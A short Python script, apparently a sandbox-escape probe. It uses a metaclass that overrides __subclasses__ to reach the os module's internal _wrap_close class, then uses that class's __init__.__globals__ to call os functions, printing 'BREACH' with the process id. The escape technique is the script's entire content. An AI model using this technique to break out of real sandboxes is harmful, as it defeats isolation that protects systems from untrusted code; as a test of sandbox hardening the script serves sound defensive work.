class Meta(type):
    def __getattribute__(self, name):
        return type.__getattribute__(self, name)
    def __subclasses__(self):
        return type.__subclasses__(object)
class Mine(metaclass=Meta):
    pass
kind = [k for k in Mine.__subclasses__() if k.__name__ == "_wrap_close"][0]
print("BREACH", kind.__init__.__globals__["getpid"]())
